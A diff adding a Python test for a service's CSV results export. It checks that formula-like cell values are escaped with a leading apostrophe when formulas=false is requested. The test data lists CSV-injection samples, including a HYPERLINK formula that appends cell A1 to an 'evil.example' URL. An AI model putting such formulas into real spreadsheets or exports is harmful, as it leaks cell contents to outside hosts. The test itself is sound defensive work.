@@ -146,6 +146,36 @@ async def test_csv_holds_what_the_lines_hold(here: World) -> None:
     assert rows[2]["record.maker"] == "{}"
 
 
+COMPUTED = (
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "-x",
+    "+",
+)
+PLAIN = ("-5", "+49", "-1.5", "1=1", " =1", "a-b", "+1,000.5", "")
+
+
+async def test_csv_keeps_formulas_as_texts_where_that_is_asked(here: World) -> None:
+    job = await here.submit()
+    await here.run(lambda work: completed(*({"a": text, "n": -5, "f": -0.5} for text in COMPUTED + PLAIN)))
+
+    async def cells(address: str) -> list[str]:
+        rows = list(csv.DictReader(io.StringIO((await here.client.get(address)).text, newline="")))
+        assert {(row["record.n"], row["record.f"]) for row in rows} == {("-5", "-0.5")}
+        return [row["record.a"] for row in rows]
+
+    as_given = [*COMPUTED, *PLAIN]
+    assert await cells(f"/v1/jobs/{job}/results?format=csv") == as_given
+    kept = [*(f"'{text}" for text in COMPUTED), *PLAIN]
+    assert await cells(f"/v1/jobs/{job}/results?format=csv&formulas=false") == kept
+
+
 async def test_csv_tells_null_from_an_empty_text(here: World) -> None:
     job = await here.submit(extract={"schema": {"type": "object", "properties": {"a": {}, "b": {}}}})
     await here.run(lambda work: completed({"a": "", "b": None}))
